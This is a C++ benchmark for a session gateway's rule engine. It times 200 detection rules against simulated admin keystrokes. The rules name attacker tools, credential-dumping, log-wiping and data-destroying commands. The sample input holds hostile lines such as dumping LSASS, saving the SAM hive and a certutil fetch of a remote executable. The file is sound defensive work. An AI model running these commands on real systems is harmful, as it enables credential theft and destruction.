// Rule cost with 200 [[rules]] (issue 18: <= 50 us p99 per key).
//
// 1. Per key, on the relay path: SessionImpl::input() for every key-down and
//    key-up of realistic typed commands (Enter included: there the terminate
//    filter runs and the finished line is masked and matched by every rule),
//    with the 200 rules and, in the same run, the same session with no rules
//    and no password-window masking (the line assembler alone) as the peer.
// 2. Per event: RuleSet::evaluate() of one line (masks, then every alert and
//    terminate rule) against the same 200 patterns run with std::regex
//    (ECMAScript, icase for `(?i)`), the peer.
// Rounds alternate which variant goes first. Raw samples (microseconds) and
// the command go to --out as JSON.
//
//   rules_bench [--lines N] [--rounds R] [--out FILE.json]
#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <random>
#include <regex>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>
#include <spdlog/spdlog.h>

#include "core/config.h"
#include "gateway/rules/rule_set.h"
#include "gateway/session_impl.h"
#include "storage/memory_store.h"

using namespace vigil;
namespace rules = vigil::gateway::rules;
using BenchClock = std::chrono::steady_clock;

namespace {

double us(BenchClock::duration d) { return std::chrono::duration<double, std::micro>(d).count(); }

struct Stats {
  double p50, p99, max, mean;
};
Stats stats(std::vector<double> v) {
  std::sort(v.begin(), v.end());
  auto at = [&](double p) { return v[std::min(v.size() - 1, static_cast<std::size_t>(p * v.size()))]; };
  double sum = 0;
  for (double x : v) sum += x;
  return {at(0.50), at(0.99), v.back(), sum / static_cast<double>(v.size())};
}

RuleConfig rule(std::string name, std::string match, RuleAction action, std::vector<EventKind> kinds,
                Severity sev = Severity::Medium, std::vector<std::string> users = {},
                std::vector<std::string> targets = {}) {
  RuleConfig r;
  r.name = std::move(name);
  r.match = std::move(match);
  r.action = action;
  r.kinds = std::move(kinds);
  r.severity = sev;
  r.users = std::move(users);
  r.targets = std::move(targets);
  return r;
}

// 200 rules as a site might write them: the example config's masks and alert,
// alerts on attacker tools and risky admin commands, terminates on
// destructive ones (with users/targets globs), title and clipboard rules.
// Only RE2 syntax that ECMAScript shares, so std::regex runs the same set.
std::vector<RuleConfig> twoHundredRules(const std::vector<RuleConfig>& example) {
  std::vector<RuleConfig> out = example;  // 5 masks + "local account created"
  const std::vector<std::string> tools = {
      "mimikatz", "psexec", "procdump", "rubeus", "sharphound", "bloodhound", "lazagne", "secretsdump",
      "wmiexec", "crackmapexec", "kerbrute", "certify", "seatbelt", "nanodump", "pypykatz", "impacket",
      "chisel", "plink", "ngrok", "anydesk", "teamviewer", "netcat", "ncat", "socat", "nmap",
      "masscan", "hydra", "hashcat", "john", "responder"};
  const std::vector<std::string> verbs = {"-a", "--dump", "/c", "-s", "--target"};
  const std::vector<std::string> flags = {"/add", "/delete", "/domain", "/active:no", "/expires:never"};
  const std::vector<Severity> sevs = {Severity::Low, Severity::Medium, Severity::High, Severity::Critical};
  int n = 0;
  // 90 alerts on tools, plain and with an argument.
  for (const auto& t : tools) {
    out.push_back(rule("tool " + t, "(?i)\\b" + t + "(?:\\.exe)?\\b", RuleAction::Alert, {EventKind::Key, EventKind::Title},
                       sevs[n++ % 4]));
    const std::string verb = verbs[n % verbs.size()];
    out.push_back(rule("tool " + t + " args", "(?i)\\b" + t + "(?:\\.exe)?\\s+\\S*" + verb,
                       RuleAction::Alert, {EventKind::Key}, sevs[n++ % 4], {"vendor*", "contractor?"}));
    out.push_back(rule("tool " + t + " download", "(?i)(?:curl|wget|iwr|invoke-webrequest)\\s+\\S*" + t,
                       RuleAction::Alert, {EventKind::Key}, Severity::High));
  }
  // 40 alerts on account, service and registry changes.
  const std::vector<std::string> objs = {"user", "localgroup administrators", "group \"domain admins\"", "accounts"};
  for (const auto& o : objs)
    for (const auto& f : flags)
      out.push_back(rule("net " + o + " " + f, "(?i)\\bnet1?\\s+" + std::regex_replace(o, std::regex(" "), "\\s+") +
                                                   "\\s+.*" + f,
                         RuleAction::Alert, {EventKind::Key}, Severity::High, {}, {"dc*", "srv-*"}));
  const std::vector<std::string> hives = {"HKLM\\\\SAM", "HKLM\\\\SYSTEM", "HKLM\\\\SECURITY", "HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
                                          "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"};
  for (const auto& h : hives)
    for (const char* op : {"save", "add", "delete", "export"})
      out.push_back(rule(std::string("reg ") + op + " " + std::to_string(n++), std::string("(?i)\\breg(?:\\.exe)?\\s+") + op + "\\s+" + h,
                         RuleAction::Alert, {EventKind::Key}, Severity::Medium));
  // 60 terminates on destructive commands, for vendors on servers.
  const std::vector<std::string> destroy = {
      "vssadmin\\s+delete\\s+shadows", "wbadmin\\s+delete\\s+catalog", "bcdedit\\s+/set\\s+\\S+\\s+recoveryenabled\\s+no",
      "wevtutil\\s+cl\\s+\\S+", "cipher\\s+/w:", "format\\s+[a-z]:", "diskpart", "shutdown\\s+/[sr]",
      "rm\\s+-rf\\s+/", "dd\\s+if=/dev/zero", "mkfs\\.", "del\\s+/[fsq]\\s+/[fsq]", "rd\\s+/s\\s+/q\\s+c:",
      "sc\\s+delete\\s+\\S+", "sc\\s+stop\\s+windefend", "set-mppreference\\s+-disable", "netsh\\s+advfirewall\\s+set\\s+\\S+\\s+state\\s+off",
      "icacls\\s+\\S+\\s+/grant\\s+everyone", "takeown\\s+/f\\s+c:", "drop\\s+database", "truncate\\s+table",
      "schtasks\\s+/create\\s+.*system", "reg\\s+add\\s+.*disableantispyware", "ntdsutil", "dsquery\\s+\\*",
      "nltest\\s+/domain_trusts", "net\\s+stop\\s+\\S+", "taskkill\\s+/f\\s+/im\\s+msmpeng", "fsutil\\s+usn\\s+deletejournal",
      "clear-eventlog"};
  for (std::size_t i = 0; i < destroy.size(); ++i) {
    out.push_back(rule("stop " + std::to_string(i), "(?i)\\b" + destroy[i], RuleAction::Terminate, {EventKind::Key},
                       Severity::Critical, {"vendor*"}, {"dc*", "prod-*", "srv-??"}));
    out.push_back(rule("stop " + std::to_string(i) + " encoded", "(?i)powershell(?:\\.exe)?\\s+.*-e(?:nc|ncodedcommand)?\\s+\\S*" +
                                                                    std::to_string(i * 7919),
                       RuleAction::Terminate, {EventKind::Key}, Severity::Critical, {"vendor?", "vendor*"}, {"*"}));
  }
  // Title and clipboard rules up to 200: secrets on the clipboard, risky windows.
  const std::vector<std::string> clip = {"AKIA[0-9A-Z]{16}", "tok_[A-Za-z0-9]{20,}", "ghp_[A-Za-z0-9]{36}",
                                         "-----BEGIN [A-Z ]*PRIVATE KEY-----", "xox[bap]-[0-9A-Za-z-]{10,}",
                                         "eyJ[A-Za-z0-9_-]{10,}\\.[A-Za-z0-9_-]{10,}"};
  const std::vector<std::string> titles = {"Registry Editor", "Group Policy Management", "Active Directory Users",
                                           "Windows Defender", "Services", "Event Viewer", "Certificate", "Credential Manager"};
  for (std::size_t i = 0; out.size() < 200; ++i) {
    if (i % 2 == 0)
      out.push_back(rule("clip " + std::to_string(i), clip[i / 2 % clip.size()] + (i / 2 >= clip.size() ? "\\b" : ""),
                         i % 4 == 0 ? RuleAction::Mask : RuleAction::Alert, {EventKind::Clipboard}));
    else
      out.push_back(rule("title " + std::to_string(i), "(?i)" + titles[i / 2 % titles.size()] + (i / 2 >= titles.size() ? "\\s*-" : ""),
                         RuleAction::Alert, {EventKind::Title}, Severity::Low));
  }
  out.resize(200);
  return out;
}

// What admins type: commands, paths, hosts; some match alert rules, some
// carry inline secrets for the masks; none matches a terminate rule (the
// session would end).
std::vector<std::string> typedLines(int count, unsigned seed) {
  std::mt19937 rng(seed);
  auto pick = [&](const std::vector<std::string>& v) { return v[rng() % v.size()]; };
  const std::vector<std::string> plain = {
      "ipconfig /all", "whoami /groups", "dir C:\\ProgramData\\Vendor\\logs", "Get-Service | Where Status -eq Running",
      "tail -n 200 /var/log/syslog", "systemctl status nginx", "ping -n 4 10.0.3.17", "cd C:\\inetpub\\wwwroot",
      "Get-EventLog -LogName Application -Newest 50", "notepad C:\\Windows\\System32\\drivers\\etc\\hosts",
      "tasklist /v | findstr java", "netstat -ano | findstr :443", "robocopy D:\\deploy E:\\app /MIR /R:1",
      "Invoke-Command -ComputerName srv-12 -ScriptBlock { Get-Date }", "sqlcmd -S db-prod-01 -Q \"select @@version\"",
      "git pull origin release/2026.12", "docker ps --format '{{.Names}}'", "kubectl get pods -n payments"};
  const std::vector<std::string> secrets = {
      "mysql -u root -pHunter2 prod", "net user eve S3cret!x /add", "psql --password=Tr0ub4dor&3 -h db-01",
      "$p = ConvertTo-SecureString 'S3cret!' -AsPlainText -Force", "Set-ADAccountPassword eve -NewPassword Pa55w0rd"};
  const std::vector<std::string> risky = {"psexec \\\\srv-07 -s cmd", "reg save HKLM\\SAM C:\\temp\\sam.hiv",
                                          "net localgroup administrators eve /add", "procdump -ma lsass.exe out.dmp",
                                          "certutil -urlcache -f http://10.0.0.9/a.exe a.exe"};
  std::vector<std::string> out;
  for (int i = 0; i < count; ++i) {
    const unsigned r = rng() % 20;
    out.push_back(r < 16 ? pick(plain) : r < 18 ? pick(secrets) : pick(risky));
  }
  return out;
}

// A keysym per character (Latin-1 keysyms are the characters) and the shift
// a US keyboard needs for it.
bool needsShift(char c) {
  return std::isupper(static_cast<unsigned char>(c)) || std::string("~!@#$%^&*()_+{}|:\"<>?").find(c) != std::string::npos;
}

struct KeySamples {
  std::vector<double> all;    // every key stroke (down + up), us
  std::vector<double> enter;  // the Enter strokes alone
};

// Types `lines` into a fresh session with `set` and times each stroke.
KeySamples typeInto(const rules::RuleSet* set, const std::vector<std::string>& lines, const std::string& dir, int round) {
  storage::MemoryStore store;
  storage::SessionRecord rec;
  rec.id = "bench-" + std::to_string(round) + (set ? "-rules" : "-none");
  rec.user = "vendor1";
  rec.target = "dc01";
  rec.state = "live";
  rec.video_path = rec.id + ".mp4";
  TargetConfig target;
  target.name = "dc01";
  gateway::SessionDeps deps{store, nullptr, dir, {}, {}, nullptr, nullptr, {}, set};
  auto s = gateway::SessionImpl::open(std::move(deps), rec, gateway::AccessGrant{"vendor1", &target, "password", {}});
  if (!s.ok()) {
    std::fprintf(stderr, "session: %s\n", s.message().c_str());
    std::exit(1);
  }
  auto& session = **s;
  session.frontTitle("Administrator: Command Prompt");
  KeySamples out;
  auto stroke = [&](std::uint32_t sym) {
    const auto t0 = BenchClock::now();
    const bool a = session.input(KeyInput{sym, true});
    const bool b = session.input(KeyInput{sym, false});
    const double d = us(BenchClock::now() - t0);
    if (!a || !b) {
      std::fprintf(stderr, "a key was held back (a terminate rule matched a bench line)\n");
      std::exit(1);
    }
    return d;
  };
  for (const std::string& line : lines) {
    for (char c : line) {
      const bool shift = needsShift(c);
      if (shift) (void)session.input(KeyInput{0xffe1, true});
      out.all.push_back(stroke(static_cast<unsigned char>(c)));
      if (shift) (void)session.input(KeyInput{0xffe1, false});
    }
    const double e = stroke(0xff0d);
    out.all.push_back(e);
    out.enter.push_back(e);
  }
  session.finish("client disconnected");
  return out;
}

// The peer of RuleSet::evaluate: the same patterns with std::regex.
class StdRegexRules {
 public:
  explicit StdRegexRules(const std::vector<RuleConfig>& rules) {
    for (const RuleConfig& r : rules) {
      std::string p = r.match;
      auto flags = std::regex::ECMAScript | std::regex::optimize;
      if (p.rfind("(?i)", 0) == 0) {
        p = p.substr(4);
        flags |= std::regex::icase;
      }
      const bool key = std::find(r.kinds.begin(), r.kinds.end(), EventKind::Key) != r.kinds.end();
      if (key) compiled_.push_back({std::regex(p, flags), r.action});
    }
  }
  // Masks (every match, group 1 if any) then the first match of each other rule.
  std::size_t evaluate(const std::string& text) const {
    std::size_t n = 0;
    for (const auto& c : compiled_) {
      if (c.action != RuleAction::Mask) continue;
      for (auto it = std::sregex_iterator(text.begin(), text.end(), c.re); it != std::sregex_iterator(); ++it) ++n;
    }
    std::smatch m;
    for (const auto& c : compiled_)
      if (c.action != RuleAction::Mask && std::regex_search(text, m, c.re)) ++n;
    return n;
  }
  std::size_t size() const { return compiled_.size(); }

 private:
  struct C {
    std::regex re;
    RuleAction action;
  };
  std::vector<C> compiled_;
};

}  // namespace

int main(int argc, char** argv) {
  int line_count = 400, rounds = 3;
  std::string out_path = "bench/results/rules_bench.json";
  std::string command = "rules_bench";
  for (int i = 1; i < argc; ++i) command += std::string(" ") + argv[i];
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string k = argv[i], v = argv[i + 1];
    if (k == "--lines") line_count = std::stoi(v);
    else if (k == "--rounds") rounds = std::stoi(v);
    else if (k == "--out") out_path = v;
    else { std::fprintf(stderr, "usage: rules_bench [--lines N] [--rounds R] [--out FILE]\n"); return 2; }
  }
  spdlog::set_level(spdlog::level::err);  // alert log lines would time the logger
  Config example = Config::load(VIGIL_EXAMPLE_CONFIG);
  const std::vector<RuleConfig> configured = twoHundredRules(example.rules);
  auto compiled = rules::RuleSet::compile(configured);
  if (!compiled.ok()) {
    std::fprintf(stderr, "%s\n", compiled.message().c_str());
    return 1;
  }
  const rules::RuleSet all = std::move(compiled.value());
  const rules::RuleSet session_rules = all.forSession("vendor1", "dc01");
  int masks = 0, alerts = 0, terminates = 0, keyrules = 0;
  for (const RuleConfig& r : configured) {
    masks += r.action == RuleAction::Mask;
    alerts += r.action == RuleAction::Alert;
    terminates += r.action == RuleAction::Terminate;
    keyrules += std::find(r.kinds.begin(), r.kinds.end(), EventKind::Key) != r.kinds.end();
  }
  std::printf("rules: %zu configured (%d mask, %d alert, %d terminate; %d on key lines), %zu apply to vendor1@dc01\n",
              configured.size(), masks, alerts, terminates, keyrules, session_rules.size());

  const std::string dir = (std::filesystem::temp_directory_path() / "vigil-rules-bench").string();
  std::filesystem::create_directories(dir);
  auto none = rules::RuleSet::compile({}, MaskingConfig{false, kDefaultPasswordWindowTitles});
  const std::vector<std::string> lines = typedLines(line_count, 7);
  const StdRegexRules peer(configured);

  KeySamples with, without;
  std::vector<double> ev_re2, ev_std;
  std::size_t sink = 0;
  for (int r = 0; r < rounds; ++r) {
    const bool rules_first = r % 2 == 0;
    for (int pass = 0; pass < 2; ++pass) {
      const bool with_rules = (pass == 0) == rules_first;
      KeySamples k = typeInto(with_rules ? &all : &none.value(), lines, dir, r);
      KeySamples& into = with_rules ? with : without;
      into.all.insert(into.all.end(), k.all.begin(), k.all.end());
      into.enter.insert(into.enter.end(), k.enter.begin(), k.enter.end());
    }
    for (int pass = 0; pass < 2; ++pass) {
      const bool re2_now = (pass == 0) == rules_first;
      for (const std::string& line : lines) {
        const auto t0 = BenchClock::now();
        if (re2_now) sink += session_rules.evaluate(EventKind::Key, line).hits.size();
        else sink += peer.evaluate(line);
        (re2_now ? ev_re2 : ev_std).push_back(us(BenchClock::now() - t0));
      }
    }
  }
  std::filesystem::remove_all(dir);

  const Stats kw = stats(with.all), kn = stats(without.all), ew = stats(with.enter), en = stats(without.enter);
  const Stats er = stats(ev_re2), es = stats(ev_std);
  std::printf("per key stroke (down+up through SessionImpl::input), %zu strokes each:\n", with.all.size());
  std::printf("  200 rules   p50 %.2f us  p99 %.2f us  max %.1f us  mean %.2f us\n", kw.p50, kw.p99, kw.max, kw.mean);
  std::printf("  no rules    p50 %.2f us  p99 %.2f us  max %.1f us  mean %.2f us\n", kn.p50, kn.p99, kn.max, kn.mean);
  std::printf("  Enter only, 200 rules p50 %.2f us p99 %.2f us; no rules p50 %.2f us p99 %.2f us (%zu each)\n", ew.p50,
              ew.p99, en.p50, en.p99, with.enter.size());
  std::printf("per key line event (evaluate), %zu each:\n", ev_re2.size());
  std::printf("  RE2 RuleSet  p50 %.2f us  p99 %.2f us  mean %.2f us\n", er.p50, er.p99, er.mean);
  std::printf("  std::regex   p50 %.2f us  p99 %.2f us  mean %.2f us  (%zu patterns)\n", es.p50, es.p99, es.mean, peer.size());
  std::printf("  ratio std::regex / RE2 (p50) %.1f\n", es.p50 / er.p50);
  std::printf("target <= 50 us p99 per key with 200 rules: %s\n", kw.p99 <= 50.0 ? "met" : "NOT met");

  // Two decimals (10 ns) keep the file small; the clock's own cost is ~20 ns.
  auto rounded = [](const std::vector<double>& v) {
    std::vector<double> o;
    o.reserve(v.size());
    for (double x : v) o.push_back(std::round(x * 100.0) / 100.0);
    return o;
  };
  nlohmann::json j;
  j["command"] = command;
  j["rules"]["configured"] = configured.size();
  j["rules"]["mask"] = masks;
  j["rules"]["alert"] = alerts;
  j["rules"]["terminate"] = terminates;
  j["rules"]["on_key_lines"] = keyrules;
  j["rules"]["apply_to_session"] = session_rules.size();
  j["lines"] = lines.size();
  j["rounds"] = rounds;
  j["unit"] = "microseconds";
  j["key_stroke_us"]["rules_200"] = rounded(with.all);
  j["key_stroke_us"]["no_rules"] = rounded(without.all);
  j["enter_stroke_us"]["rules_200"] = rounded(with.enter);
  j["enter_stroke_us"]["no_rules"] = rounded(without.enter);
  j["evaluate_us"]["re2_ruleset"] = rounded(ev_re2);
  j["evaluate_us"]["std_regex"] = rounded(ev_std);
  j["sink"] = sink;
  std::ofstream(out_path) << j.dump() << "\n";
  std::printf("raw samples: %s\n", out_path.c_str());
  return kw.p99 <= 50.0 ? 0 : 1;
}
